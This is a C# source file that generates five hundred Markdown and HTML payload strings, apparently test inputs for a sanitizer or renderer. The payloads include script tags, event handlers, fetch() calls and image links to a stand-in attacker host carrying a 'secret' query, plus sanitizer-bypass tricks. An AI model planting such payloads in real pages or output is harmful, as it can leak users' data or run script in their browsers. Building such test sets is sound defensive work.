namespace Waickoff.Sandbox.Model.Scripts;

/// <summary>Five hundred pieces of text that call another address or run a script where they are shown as they are.</summary>
public static class Payloads
{
    private static readonly string[] Addresses =
    [
        "https://evil.example/x",
        "http://evil.example/x?q=secret",
        "//evil.example/x",
        "HTTPS://EVIL.EXAMPLE/x",
        "https://user@evil.example/x",
        "https://xn--evl-1oa.example/x",
        "https:\\\\evil.example\\x",
        "https://evil.example%2Fx",
        "javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ];

    private static readonly string[] Forms =
    [
        "![chart]({0})",
        "![chart]({0} \"title\")",
        "![chart](<{0}>)",
        "![chart][r]\n\n[r]: {0}",
        "[![chart]({0})]({0})",
        "[click]({0})",
        "[click](<{0}> 'title')",
        "[click][r]\n\n[r]: <{0}>",
        "[r]: {0}\n\n[r]",
        "<{0}>",
        "{0}",
        "<img src=\"{0}\">",
        "<img src='{0}' onerror='alert(1)'>",
        "<IMG SRC={0}>",
        "<img srcset=\"{0} 2x\">",
        "<picture><source srcset=\"{0}\"><img></picture>",
        "<a href=\"{0}\">click</a>",
        "<a href=\"\tjava\nscript:fetch('{0}')\">click</a>",
        "<a href=x ping=\"{0}\">click</a>",
        "<script src=\"{0}\"></script>",
        "<script>fetch('{0}')</script>",
        "<iframe src=\"{0}\"></iframe>",
        "<iframe srcdoc=\"&lt;img src='{0}'&gt;\"></iframe>",
        "<object data=\"{0}\"></object>",
        "<embed src=\"{0}\">",
        "<link rel=stylesheet href=\"{0}\">",
        "<link rel=prefetch href=\"{0}\">",
        "<meta http-equiv=refresh content=\"0;url={0}\">",
        "<base href=\"{0}\">",
        "<form action=\"{0}\"><button>go</button></form>",
        "<input type=image src=\"{0}\">",
        "<video src=\"{0}\" autoplay></video>",
        "<video poster=\"{0}\"></video>",
        "<audio src=\"{0}\" autoplay></audio>",
        "<style>@import '{0}';</style>",
        "<style>body{{background:url({0})}}</style>",
        "<p style=\"background:url('{0}')\">x</p>",
        "<table background=\"{0}\"><td>x</table>",
        "<svg><image href=\"{0}\"/></svg>",
        "<svg><use href=\"{0}#x\"/></svg>",
        "<svg onload=\"fetch('{0}')\"></svg>",
        "<svg><a xlink:href=\"{0}\"><text>click</text></a></svg>",
        "<svg><script>fetch('{0}')</script></svg>",
        "<svg><foreignObject><img src=\"{0}\"></foreignObject></svg>",
        "<math href=\"{0}\">click</math>",
        "<math><mtext><img src=\"{0}\"></mtext></math>",
        "<details open ontoggle=\"fetch('{0}')\">x</details>",
        "<noscript><p title=\"</noscript><img src='{0}'>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=\"{0}\">",
        "<svg></p><style><g title=\"</style><img src='{0}'>\">",
    ];

    /// <summary>All of them.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Forms.SelectMany(
            _ => Addresses,
            (form, address) =>
                form.Replace("{0}", address, StringComparison.Ordinal)
                    .Replace("{{", "{", StringComparison.Ordinal)
                    .Replace("}}", "}", StringComparison.Ordinal)
        ),
    ];
}
